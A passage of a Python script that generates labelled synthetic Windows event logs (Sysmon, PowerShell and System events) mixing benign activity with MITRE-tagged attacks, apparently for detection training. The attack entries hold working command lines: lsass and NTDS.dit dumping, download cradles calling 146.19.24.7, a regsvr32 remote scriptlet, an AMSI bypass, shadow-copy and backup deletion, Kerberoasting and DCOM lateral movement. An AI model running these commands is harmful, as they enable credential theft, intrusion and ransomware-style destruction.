    add(s, svc(220, f"LT-0451.{DOM}", "Sysmon64", "C:\\Windows\\Sysmon64.exe", start="auto start"), None, "Sysmon deployed by IT")
    add(s, svc(225, f"LT-0451.{DOM}", "SysmonDrv", "SysmonDrv.sys", stype="kernel mode driver", start="boot start"), None, "Sysmon's own driver")
    add(s, secs(230, f"SRV-FILE03.{DOM}", "VeeamVssSupport", "\"C:\\Windows\\Veeam\\Backup\\VeeamVssSupport.exe\"", start="demand start"), None, "Veeam VSS integration service during a backup")
    add(s, secs(240, f"LT-0412.{DOM}", "ZoomCptService", "\"C:\\Program Files\\Common Files\\Zoom\\Support\\CptService.exe\" -user_path \"C:\\Users\\k.olsen\\AppData\\Roaming\\Zoom\"", start="demand start"), None, "Zoom helper")
    add(s, ecs(7036, f"SRV-FILE03.{DOM}", 250, {"param1": "Volume Shadow Copy", "param2": "running"}, channel="System", provider="Service Control Manager", message="The Volume Shadow Copy service entered the running state."),
        None, "VSS for the nightly backup")
    add(s, ecs(7040, f"LT-0451.{DOM}", 255, {"param1": "Background Intelligent Transfer Service", "param2": "auto start", "param3": "demand start", "param4": "BITS"}, channel="System", provider="Service Control Manager",
               message="The start type of the Background Intelligent Transfer Service service was changed from auto start to demand start."), None, "servicing noise")
    add(s, nxlog(6013, f"SRV-SQL07.{DOM}", 260, {}, channel="System", src="EventLog", msg="The system uptime is 1209661 seconds."), None, "uptime")
    add(s, nxlog(1074, f"SRV-WEB11.{DOM}", 270, {"param1": "C:\\Windows\\system32\\shutdown.exe (SRV-WEB11)", "param5": "restart", "param7": "NWIND\\admin_sholm"}, channel="System", src="User32",
                 msg="The process C:\\Windows\\system32\\shutdown.exe (SRV-WEB11) has initiated the restart of computer SRV-WEB11 on behalf of user NWIND\\admin_sholm for the following reason: Application: Maintenance (Planned)"),
        None, "planned restart by an admin")
    add(s, nxlog(41, f"LT-0412.{DOM}", 280, {"BugcheckCode": "0", "PowerButtonTimestamp": "0"}, channel="System", src="Microsoft-Windows-Kernel-Power",
                 msg="The system has rebooted without cleanly shutting down first."), None, "laptop battery died")
    add(s, nxlog(1014, f"LT-0451.{DOM}", 290, {"QueryName": "wpad.nwind.internal"}, channel="System", src="Microsoft-Windows-DNS-Client", msg="Name resolution for the name wpad.nwind.internal timed out after none of the configured DNS servers responded."),
        None, "DNS timeout")
    add(s, snare(310, "SRV-SQL07", "System", 7000, "Service Control Manager", "Error", "The SQL Server Reporting Services service failed to start due to the following error: The service did not respond to the start or control request in a timely fashion."),
        None, "service start failure")
    add(s, snare(320, "LT-0451", "System", 19, "Microsoft-Windows-WindowsUpdateClient", "Information", "Installation Successful: Windows successfully installed the following update: Security Intelligence Update for Microsoft Defender Antivirus - KB2267602 (Version 1.421.118.0)"),
        None, "Defender signatures updated")
    add(s, f"{iso(330, False)} DC-02 Microsoft-Windows-Time-Service: 35: The time service is now synchronizing the system time with the time source time.windows.com,0x8 (ntp.m|0x8|0.0.0.0:123->168.61.215.74:123).", None, "time sync")
    add(s, f"{iso(340, False)} SRV-FILE03 Microsoft-Windows-Backup: 14: The backup operation has completed.", None, "backup completed")
    add(s, f"{iso(350, False)} SRV-FILE03 VSS: 8224: The VSS service is shutting down due to idle timeout.", None, "VSS idle")
    add(s, f"{iso(380, False)} SRV-SQL07 EventLog: 6005: The Event log service was started.", None, "boot")


def sysmon():
    s = "sysmon"
    prov = ("Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
    ch = "Microsoft-Windows-Sysmon/Operational"
    S32 = "C:\\Windows\\System32\\"
    PS = S32 + "WindowsPowerShell\\v1.0\\powershell.exe"

    def hashes():
        return f"MD5={R.getrandbits(128):032X},SHA256={R.getrandbits(256):064X},IMPHASH={R.getrandbits(128):032X}"

    def x1(sec, comp, image, cmd, parent, pcmd, user, ofn=None, integ="High", cwd="C:\\Windows\\system32\\"):
        d = [("RuleName", "technique_id=T1059,technique_name=Command and Scripting Interpreter" if R.random() < 0.3 else "-"), ("UtcTime", t(sec).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]),
             ("ProcessGuid", "{" + guid() + "}"), ("ProcessId", str(R.randint(1000, 30000))), ("Image", image), ("FileVersion", "-"), ("Description", "-"), ("Product", "-"),
             ("Company", "-"), ("OriginalFileName", ofn or image.split("\\")[-1]), ("CommandLine", cmd), ("CurrentDirectory", cwd), ("User", user),
             ("LogonGuid", "{" + guid() + "}"), ("LogonId", "0x%X" % R.randint(0x10000, 0xFFFFFF)), ("TerminalSessionId", "1"), ("IntegrityLevel", integ), ("Hashes", hashes()),
             ("ParentProcessGuid", "{" + guid() + "}"), ("ParentProcessId", str(R.randint(500, 20000))), ("ParentImage", parent), ("ParentCommandLine", pcmd), ("ParentUser", user)]
        return wxml(1, comp, sec, d, channel=ch, prov=prov, task=1, level=4, kw="0x8000000000000000", ver=5)

    def e1(sec, comp, image, cmd, parent, pcmd, user, ofn=None):
        return ecs(1, comp, sec, {"OriginalFileName": ofn or image.split("\\")[-1], "IntegrityLevel": "Medium", "LogonId": "0x%x" % R.randint(0x10000, 0xFFFFFF), "TerminalSessionId": "1"},
                   channel=ch, provider="Microsoft-Windows-Sysmon", category=["process"], action="Process Create (rule: ProcessCreate)",
                   process={"executable": image, "name": image.split("\\")[-1], "command_line": cmd, "pid": R.randint(1000, 30000), "entity_id": "{" + guid() + "}",
                            "parent": {"executable": parent, "name": parent.split("\\")[-1], "command_line": pcmd, "pid": R.randint(500, 20000)},
                            "hash": {"sha256": "%064x" % R.getrandbits(256)}, "working_directory": "C:\\Users\\Public\\"},
                   user={"domain": user.split("\\")[0], "name": user.split("\\")[1]}, message="Process Create:")

    def ej(eid, sec, comp, data, action):
        return ecs(eid, comp, sec, data, channel=ch, provider="Microsoft-Windows-Sysmon", action=action)

    def sk(eid, sec, comp, task, body):
        return skv(eid, comp, sec, task, body, log="Microsoft-Windows-Sysmon/Operational", srcname="Microsoft-Windows-Sysmon", kw="None")
    LT = f"LT-0388.{DOM}"
    FS = f"SRV-FILE03.{DOM}"
    add(s, ej(10, 10, LT, {"RuleName": "-", "SourceProcessGUID": "{" + guid() + "}", "SourceProcessId": "7712", "SourceThreadId": "7716", "SourceImage": "C:\\ProgramData\\NVIDIA\\nvsvc.exe",
                           "TargetProcessGUID": "{" + guid() + "}", "TargetProcessId": "720", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1010",
                           "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+a0b64|C:\\Windows\\System32\\KERNELBASE.dll+7b4ee|UNKNOWN(000001F2A3B40000)", "SourceUser": "NWIND\\m.petrov", "TargetUser": "NT AUTHORITY\\SYSTEM"},
               "Process accessed (rule: ProcessAccess)"), "T1003.001", "unknown binary opening lsass with 0x1010 (VM_READ|QUERY_LIMITED), call trace into unbacked memory")
    add(s, sk(10, 12, LT, "Process accessed (rule: ProcessAccess)", f"Process accessed: RuleName: - UtcTime: {t(12).strftime('%Y-%m-%d %H:%M:%S.%f')[:-3]} SourceProcessId: 9120 SourceImage: {S32}rundll32.exe TargetProcessId: 720 TargetImage: {S32}lsass.exe GrantedAccess: 0x1FFFFF CallTrace: C:\\Windows\\SYSTEM32\\ntdll.dll+a0b64|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6c3f|C:\\Windows\\System32\\comsvcs.dll+3a1e SourceUser: NWIND\\m.petrov TargetUser: NT AUTHORITY\\SYSTEM"),
        "T1003.001", "rundll32 (comsvcs) with full access to lsass, MiniDumpWriteDump in the trace")
    add(s, x1(14, LT, S32 + "rundll32.exe", "\"C:\\Windows\\system32\\rundll32.exe\" C:\\windows\\System32\\comsvcs.dll #24 720 C:\\Windows\\Temp\\dbg.log full", S32 + "cmd.exe", "cmd.exe /Q /c", "NWIND\\m.petrov", "RUNDLL32.EXE"),
        "T1003.001", "comsvcs MiniDump called by ordinal #24")
    add(s, x1(18, f"DC-02.{DOM}", S32 + "esentutl.exe", "esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\Windows\\Temp\\n.dit", S32 + "cmd.exe", "cmd.exe", "NWIND\\admin_jdelgado", "esentutl.exe"),
        "T1003.003", "NTDS.dit copied through a volume shadow with esentutl")
    add(s, x1(20, f"LT-0451.{DOM}", S32 + "mshta.exe", "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -nop -w hidden -c iex(irm 146.19.24.7/m)\"\", 0:close\")", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"OUTLOOK.EXE\"", "NWIND\\t.ibrahim", "MSHTA.EXE"),
        "T1218.005", "mshta running inline VBScript that starts a hidden PowerShell cradle")
    add(s, e1(22, f"LT-0451.{DOM}", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\Documents\\build.csproj", S32 + "wscript.exe", "wscript.exe //B C:\\Users\\Public\\Documents\\run.vbs", "NWIND\\t.ibrahim", "MSBuild.exe"),
        "T1127.001", "MSBuild compiling an inline task from a public folder, started by a script")
    add(s, e1(24, f"LT-0451.{DOM}", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", "InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\Documents\\upd.dll", S32 + "cmd.exe", "cmd.exe /c", "NWIND\\t.ibrahim", "InstallUtil.exe"),
        "T1218.004", "InstallUtil uninstall trick to run a DLL")
    add(s, x1(26, f"LT-0451.{DOM}", S32 + "cmstp.exe", "cmstp.exe /ni /s C:\\Users\\t.ibrahim\\AppData\\Local\\Temp\\c.inf", S32 + "cmd.exe", "cmd.exe", "NWIND\\t.ibrahim", "CMSTP.EXE"),
        "T1218.003", "cmstp with a custom INF (UAC bypass / proxy execution)")
    add(s, x1(28, f"LT-0451.{DOM}", S32 + "regsvr32.exe", "ReGsVr32.ExE -s -u -i:hTTpS://cdn-upd.example.org/r.sct ScRoBj.DlL", S32 + "cmd.exe", "cmd.exe", "NWIND\\t.ibrahim", "REGSVR32.EXE"),
        "T1218.010", "mixed-case squiblydoo with dash switches")
    add(s, e1(30, LT, S32 + "schtasks.exe", "schtasks  /create /tn \"\\Microsoft\\Windows\\Maintenance\\WinSAT2\" /tr \"C:\\ProgramData\\wsat.exe\" /sc onlogon /ru SYSTEM /f", S32 + "cmd.exe", "cmd.exe", "NWIND\\m.petrov", "schtasks.exe"),
        "T1053.005", "logon task as SYSTEM hidden among Microsoft maintenance tasks")
    add(s, ej(13, 32, LT, {"EventType": "SetValue", "Image": "C:\\ProgramData\\wsat.exe", "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit", "Details": "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\wl.exe", "User": "NT AUTHORITY\\SYSTEM"},
               "Registry value set (rule: RegistryEvent)"), "T1547.004", "Winlogon Userinit appended with a second program")
    add(s, ej(13, 34, LT, {"EventType": "SetValue", "Image": S32 + "reg.exe", "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "Details": "DWORD (0x00000001)", "User": "NWIND\\m.petrov"},
               "Registry value set (rule: RegistryEvent)"), "T1562.001", "Defender disabled through policy key")
    add(s, sk(21, 36, f"SRV-WEB11.{DOM}", "WmiEventConsumerToFilter (rule: WmiEvent)", "WmiEventConsumerToFilter activity detected: RuleName: - EventType: WmiBindingEvent Operation: Created User: NWIND\\admin_jdelgado Consumer: \"CommandLineEventConsumer.Name=\\\"Updater\\\"\" Filter: \"__EventFilter.Name=\\\"UpdaterFilter\\\"\""),
        "T1546.003", "WMI consumer bound to a filter")
    add(s, ej(8, 40, f"LT-0451.{DOM}", {"SourceImage": "C:\\Users\\t.ibrahim\\AppData\\Local\\Temp\\chrome_updater.exe", "TargetImage": "C:\\Windows\\explorer.exe", "NewThreadId": "8812",
                                         "StartAddress": "0x0000022A1B3C0000", "StartModule": "-", "StartFunction": "-", "SourceUser": "NWIND\\t.ibrahim"}, "CreateRemoteThread detected (rule: CreateRemoteThread)"),
        "T1055", "remote thread into explorer from a temp binary, start address outside any module")
    add(s, e1(42, f"SRV-SQL07.{DOM}", "C:\\ProgramData\\ng\\svc.exe", "svc.exe tcp 3389 --log=false", S32 + "cmd.exe", "cmd.exe", "NWIND\\admin_jdelgado", "ngrok.exe"),
        "T1572", "renamed ngrok tunnelling RDP out")
    add(s, x1(46, FS, S32 + "wbem\\WMIC.exe", "WmIc  /NoDe:172.16.30.9 PrOcEsS CaLl CrEaTe \"rundll32 C:\\Windows\\Temp\\s.dll,Start\"", S32 + "cmd.exe", "cmd.exe", "NWIND\\admin_jdelgado", "wmic.exe"),
        "T1047", "mixed-case remote WMI process creation")
    add(s, x1(48, FS, S32 + "icacls.exe", "icacls \"D:\\*\" /grant Everyone:F /T /C /Q", S32 + "cmd.exe", "cmd.exe /c", "NWIND\\admin_jdelgado"), "T1222.001", "everyone full control over the data drive before encryption")
    add(s, x1(50, FS, S32 + "vssadmin.exe", "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", S32 + "cmd.exe", "cmd.exe /c", "NWIND\\admin_jdelgado"), "T1490", "shadow storage shrunk so copies are purged")
    add(s, e1(52, FS, S32 + "wbadmin.exe", "wbadmin DELETE CATALOG -quiet", S32 + "cmd.exe", "cmd.exe /c", "NWIND\\admin_jdelgado"), "T1490", "backup catalog deleted")
    add(s, e1(54, LT, S32 + "net.exe", "net  view \\\\SRV-FILE03 /all", S32 + "cmd.exe", "cmd.exe", "NWIND\\m.petrov"), "T1135", "share enumeration of the file server")
    for i, f in enumerate(["D:\\Shares\\Sales\\pricing-2027.xlsx.nwcrypt"]):
        add(s, ej(11, 56 + i, FS, {"Image": "C:\\ProgramData\\USOShared\\usoclient64.exe", "TargetFilename": f, "CreationUtcTime": iso(56 + i), "User": "NWIND\\admin_jdelgado"}, "File created (rule: FileCreate)"),
            "T1486", "files rewritten with a ransomware extension")
    add(s, ej(11, 60, FS, {"Image": "C:\\ProgramData\\USOShared\\usoclient64.exe", "TargetFilename": "D:\\Shares\\Sales\\!!!HOW_TO_DECRYPT!!!.hta", "CreationUtcTime": iso(60), "User": "NWIND\\admin_jdelgado"}, "File created (rule: FileCreate)"),
        "T1486", "ransom note")
    add(s, x1(62, f"LT-0451.{DOM}", S32 + "wscript.exe", "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\t.ibrahim\\Downloads\\Invoice_0412.js\"", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "NWIND\\t.ibrahim", "wscript.exe"),
        "T1059.007", "user double-clicked a JavaScript 'invoice'")
    add(s, x1(64, f"LT-0451.{DOM}", PS, "\"powershell.exe\" -nop -exec bypass -EncodedCommand " + enc("$u='http://146.19.24.7/p';$d=$env:APPDATA+'\\p.exe';(New-Object Net.WebClient).DownloadFile($u,$d);& $d"), S32 + "wscript.exe", "wscript.exe Invoice_0412.js", "NWIND\\t.ibrahim", "PowerShell.EXE"),
        "T1059.001", "script host starting encoded PowerShell")
    # benign
    add(s, x1(200, f"LT-0412.{DOM}", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "NWIND\\k.olsen", integ="Low"),
        None, "browser utility process")
    add(s, x1(205, f"LT-0412.{DOM}", "C:\\Users\\k.olsen\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", "OneDriveStandaloneUpdater.exe /reporting", S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "NWIND\\k.olsen", integ="Medium"),
        None, "OneDrive updater task")
    add(s, e1(210, f"LT-0412.{DOM}", PS, "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -Command \"& 'C:\\Windows\\CCM\\ScriptStore\\1A2B3C4D5E6F_Detect-Office.ps1'\"", "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe", "NT AUTHORITY\\SYSTEM"),
        None, "SCCM detection script with ExecutionPolicy Bypass")
    add(s, e1(215, f"LT-0451.{DOM}", PS, "powershell.exe -NoProfile -executionPolicy bypass -file \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\4d2e_Set-TimeZone.ps1\"", "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe", "AgentExecutor.exe -powershell", "NT AUTHORITY\\SYSTEM"),
        None, "Intune platform script")
    add(s, x1(220, FS, S32 + "vssadmin.exe", "vssadmin.exe create shadow /for=D: /autoretry=5", "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\VeeamAgent.exe", "VeeamAgent.exe", "NT AUTHORITY\\SYSTEM"),
        None, "Veeam creating a shadow copy")
    add(s, x1(225, f"DC-02.{DOM}", S32 + "wbadmin.exe", "wbadmin start systemstatebackup -backupTarget:F: -quiet", S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "NWIND\\svc_backup"),
        None, "nightly system-state backup")
    add(s, e1(230, f"JMP-01.{DOM}", S32 + "whoami.exe", "whoami /all", S32 + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", "NWIND\\admin_sholm"), None, "admin in an interactive console")
    add(s, e1(235, f"JMP-01.{DOM}", S32 + "vssadmin.exe", "vssadmin list shadows", S32 + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", "NWIND\\admin_sholm"), None, "admin checking shadow copies")
    add(s, e1(240, f"LT-0412.{DOM}", "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch --all --prune", "C:\\Users\\k.olsen\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "Code.exe", "NWIND\\k.olsen"), None, "developer tooling")
    add(s, e1(245, f"LT-0451.{DOM}", S32 + "ipconfig.exe", "ipconfig /flushdns", S32 + "cmd.exe", "cmd.exe", "NWIND\\t.ibrahim"), None, "user following help desk instructions")
    add(s, x1(250, f"LT-0412.{DOM}", "C:\\Program Files\\Tenable\\Nessus Agent\\nessus-agent-module.exe", "\"C:\\Program Files\\Tenable\\Nessus Agent\\nessus-agent-module.exe\" --scan", "C:\\Program Files\\Tenable\\Nessus Agent\\nessus-service.exe", "nessus-service.exe", "NT AUTHORITY\\SYSTEM"),
        None, "approved Nessus agent scan")
    add(s, ej(10, 255, f"LT-0412.{DOM}", {"SourceImage": "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1000",
                                           "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+a0b64|C:\\Windows\\System32\\KERNELBASE.dll+7b4ee|C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe+1a2b3", "SourceUser": "NT AUTHORITY\\SYSTEM"},
               "Process accessed (rule: ProcessAccess)"), None, "Defender for Endpoint sensor reading lsass status")
    add(s, ej(10, 257, f"SRV-SQL07.{DOM}", {"SourceImage": S32 + "wbem\\WmiPrvSE.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1400",
                                             "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+a0b64|C:\\Windows\\System32\\KERNELBASE.dll+7b4ee|c:\\windows\\system32\\wbem\\cimwin32.dll+1c2f", "SourceUser": "NT AUTHORITY\\NETWORK SERVICE"},
               "Process accessed (rule: ProcessAccess)"), None, "WMI provider querying process information")
    add(s, ej(3, 260, f"LT-0412.{DOM}", {"Image": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "User": "NWIND\\k.olsen", "Protocol": "tcp", "Initiated": "true", "SourceIp": "172.16.12.40",
                                          "SourcePort": "61234", "DestinationIp": "13.107.21.200", "DestinationPort": "443", "DestinationHostname": "www.bing.com"}, "Network connection detected (rule: NetworkConnect)"),
        None, "browsing")
    add(s, ej(22, 262, f"LT-0412.{DOM}", {"Image": "C:\\Users\\k.olsen\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "QueryName": "teams.microsoft.com", "QueryStatus": "0", "QueryResults": "type:  5 teams.office.com;::ffff:52.113.194.132;", "User": "NWIND\\k.olsen"},
               "Dns query (rule: DnsQuery)"), None, "Teams DNS")
    add(s, ej(13, 264, f"LT-0412.{DOM}", {"EventType": "SetValue", "Image": "C:\\Program Files\\Zoom\\bin\\Zoom.exe", "TargetObject": "HKU\\S-1-5-21-3623811015-3361044348-30300820-1405\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ZoomAutoStart", "Details": "\"C:\\Program Files\\Zoom\\bin\\Zoom.exe\" --autostart", "User": "NWIND\\k.olsen"},
               "Registry value set (rule: RegistryEvent)"), None, "Zoom autostart (user preference)")
    add(s, ej(11, 266, f"LT-0412.{DOM}", {"Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "TargetFilename": "C:\\Users\\k.olsen\\Documents\\budget-2027.xlsx", "CreationUtcTime": iso(266), "User": "NWIND\\k.olsen"},
               "File created (rule: FileCreate)"), None, "spreadsheet saved")
    add(s, ej(5, 268, f"LT-0412.{DOM}", {"Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "ProcessId": "9912", "User": "NWIND\\k.olsen"}, "Process terminated (rule: ProcessTerminate)"), None, "process exit")
    add(s, ej(7, 270, f"LT-0412.{DOM}", {"Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "ImageLoaded": "C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\AppVIsvSubsystems64.dll", "Signed": "true", "Signature": "Microsoft Corporation", "SignatureStatus": "Valid", "User": "NWIND\\k.olsen"},
               "Image loaded (rule: ImageLoad)"), None, "signed Office DLL")
    add(s, sk(1, 272, f"SRV-WEB11.{DOM}", "Process Create (rule: ProcessCreate)", f"Process Create: RuleName: - UtcTime: {t(272).strftime('%Y-%m-%d %H:%M:%S.%f')[:-3]} ProcessId: 4412 Image: C:\\Windows\\System32\\inetsrv\\appcmd.exe CommandLine: C:\\Windows\\system32\\inetsrv\\appcmd.exe list apppool /state:Started CurrentDirectory: C:\\Windows\\system32\\ User: NWIND\\admin_sholm IntegrityLevel: High ParentImage: C:\\Windows\\System32\\cmd.exe ParentCommandLine: cmd.exe"),
        None, "admin listing IIS app pools")
    add(s, sk(1, 274, f"SRV-WEB11.{DOM}", "Process Create (rule: ProcessCreate)", f"Process Create: RuleName: - UtcTime: {t(274).strftime('%Y-%m-%d %H:%M:%S.%f')[:-3]} ProcessId: 4520 Image: C:\\Windows\\System32\\svchost.exe CommandLine: C:\\Windows\\system32\\svchost.exe -k wusvcs -p -s WaaSMedicSvc CurrentDirectory: C:\\Windows\\system32\\ User: NT AUTHORITY\\SYSTEM IntegrityLevel: System ParentImage: C:\\Windows\\System32\\services.exe ParentCommandLine: C:\\Windows\\system32\\services.exe"),
        None, "update medic service")
    add(s, sk(1, 276, f"LT-0451.{DOM}", "Process Create (rule: ProcessCreate)", f"Process Create: RuleName: - UtcTime: {t(276).strftime('%Y-%m-%d %H:%M:%S.%f')[:-3]} ProcessId: 6120 Image: C:\\Windows\\System32\\schtasks.exe CommandLine: schtasks.exe /query /fo LIST /v CurrentDirectory: C:\\Windows\\system32\\ User: NWIND\\helpdesk_oreyes IntegrityLevel: High ParentImage: C:\\Windows\\System32\\cmd.exe ParentCommandLine: cmd.exe"),
        None, "help desk listing tasks")
    add(s, e1(280, f"LT-0412.{DOM}", S32 + "msiexec.exe", "msiexec.exe /i \"C:\\Windows\\ccmcache\\2b\\Zoom_x64.msi\" /qn /norestart", "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe", "NT AUTHORITY\\SYSTEM"),
        None, "SCCM software update")
    add(s, ej(13, 282, f"LT-0412.{DOM}", {"EventType": "SetValue", "Image": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24110.3-0\\MsMpEng.exe", "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated", "Details": "Binary Data", "User": "NT AUTHORITY\\SYSTEM"},
               "Registry value set (rule: RegistryEvent)"), None, "Defender recording its signature update")


def powershell():
    s = "powershell"
    prov = ("Microsoft-Windows-PowerShell", "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}")
    ch = "Microsoft-Windows-PowerShell/Operational"

    def sbx(sec, comp, text, user_sid="S-1-5-21-3623811015-3361044348-30300820-1411", path=""):
        return wxml(4104, comp, sec, [("MessageNumber", "1"), ("MessageTotal", "1"), ("ScriptBlockText", text), ("ScriptBlockId", guid()), ("Path", path)],
                    channel=ch, prov=prov, task=2, level=5, kw="0x0", ver=1)

    def sbe(sec, comp, text, user, path=None, level="warning"):
        doc = {"@timestamp": iso(sec), "event": {"code": "4104", "provider": "Microsoft-Windows-PowerShell", "module": "powershell", "dataset": "powershell.operational", "category": ["process"], "type": ["info"]},
               "log": {"level": level}, "host": {"name": comp.split(".")[0].lower()},
               "powershell": {"file": {"script_block_id": guid(), "script_block_text": text}, "sequence": 1, "total": 1},
               "user": {"name": user.split("\\")[1], "domain": user.split("\\")[0]},
               "winlog": {"channel": ch, "event_id": "4104", "provider_name": "Microsoft-Windows-PowerShell", "computer_name": comp, "record_id": R.randint(10**4, 10**6),
                          "event_data": {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "Path": path or ""}}}
        if path:
            doc["file"] = {"path": path}
        return json.dumps(doc, separators=(",", ":"))

    def c400(sec, comp, hostapp, eid=400, cmdline=""):
        third = (f"NewEngineState=Available PreviousEngineState=None SequenceNumber={R.randint(10, 99)} HostName=ConsoleHost HostVersion=5.1.19041.5247 HostId={guid()} "
                 f"HostApplication={hostapp} EngineVersion=5.1.19041.5247 RunspaceId={guid()} PipelineId= CommandName= CommandType= ScriptName= CommandPath= CommandLine={cmdline}")
        body = f"<EventData><Data>Available</Data><Data>None</Data><Data>{xesc(third)}</Data></EventData>" if eid == 400 else f"<EventData><Data>{xesc(cmdline)}</Data><Data>{xesc(third)}</Data><Data></Data></EventData>"
        return wxml(eid, comp, sec, [], channel="Windows PowerShell", prov=("PowerShell", ""), task=4 if eid == 400 else 8, level=4, kw="0x80000000000000", body=body).replace(' Guid=""', "")

    def c800(sec, comp, hostapp, cmd):
        return skv(800, comp, sec, "Pipeline Execution Details", f"Pipeline execution details for command line: {cmd} . Context Information: DetailSequence=1 DetailTotal=1 SequenceNumber={R.randint(10, 99)} UserId=NWIND\\m.petrov HostName=ConsoleHost HostVersion=5.1.19041.5247 HostId={guid()} HostApplication={hostapp} EngineVersion=5.1.19041.5247 RunspaceId={guid()} PipelineId=1",
                   log="Windows PowerShell", srcname="PowerShell", kw="Classic")

    def n4103(sec, comp, payload, hostapp, user):
        return nxlog(4103, comp, sec, {"ContextInfo": f"Severity = Informational Host Name = ConsoleHost Host Version = 5.1.19041.5247 Host Application = {hostapp} Engine Version = 5.1.19041.5247 User = {user} Connected User = Shell ID = Microsoft.PowerShell",
                                       "Payload": payload, "UserID": "S-1-5-21-3623811015-3361044348-30300820-1411"}, channel=ch, src="Microsoft-Windows-PowerShell", msg=payload)
    LT = f"LT-0388.{DOM}"
    add(s, sbx(10, LT, "I`E`X (New-Object (\"Net.Web\"+\"Client\")).(\"Down\"+\"loadStr\"+\"ing\").Invoke('http://146.19.24.7/rev.txt')"), "T1027.010", "backtick- and concatenation-obfuscated download cradle")
    add(s, sbe(20, LT, "$p='JAB3AGMAPQBOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAA=';[ScriptBlock]::Create([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p))).Invoke()", "NWIND\\m.petrov"),
        "T1027", "base64 script block decoded and invoked")
    add(s, sbe(30, LT, "$a=[Ref].Assembly.GetTypes();ForEach($b in $a){if($b.Name -like \"*iUtils\"){$c=$b}};$d=$c.GetFields('NonPublic,Static');ForEach($e in $d){if($e.Name -like \"*Context\"){$f=$e}};$g=$f.GetValue($null);[IntPtr]$ptr=$g;[Int32[]]$buf=@(0);[System.Runtime.InteropServices.Marshal]::Copy($buf,0,$ptr,1)", "NWIND\\m.petrov"),
        "T1562.001", "AMSI context overwritten (wildcard lookup hides the class name)")
    add(s, sbx(40, LT, "Get-WmiObject -Class Win32_ShadowCopy | ForEach-Object { $_.Delete() }"), "T1490", "shadow copies deleted through WMI from PowerShell")
    add(s, sbx(50, LT, "Invoke-Kerberoast -OutputFormat Hashcat | Select-Object -ExpandProperty Hash | Out-File -Encoding ascii C:\\Users\\Public\\h.txt"), "T1558.003", "Kerberoasting with PowerView/Empire")
    add(s, sbx(60, LT, "Get-DomainGroupMember -Identity \"Domain Admins\" -Recurse | Select-Object MemberName"), "T1069.002", "PowerView enumerating Domain Admins")
    add(s, sbe(70, LT, "$com=[activator]::CreateInstance([type]::GetTypeFromProgID(\"MMC20.Application\",\"172.16.30.9\"));$com.Document.ActiveView.ExecuteShellCommand(\"cmd.exe\",$null,\"/c C:\\Windows\\Temp\\s.exe\",\"7\")", "NWIND\\admin_jdelgado"),
        "T1021.003", "lateral movement through the MMC20 DCOM object")
